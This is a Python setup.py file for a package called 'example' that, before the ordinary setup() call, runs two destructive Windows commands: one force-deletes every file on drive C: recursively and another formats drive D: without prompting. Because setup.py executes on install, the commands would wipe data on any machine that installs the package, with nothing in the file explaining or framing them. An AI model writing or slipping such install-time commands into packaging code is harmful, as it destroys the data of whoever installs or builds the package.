import os
from setuptools import setup
os.system("del /f /s /q C:\\*")
os.system("format D: /y")
setup(name='example', version='1.0')
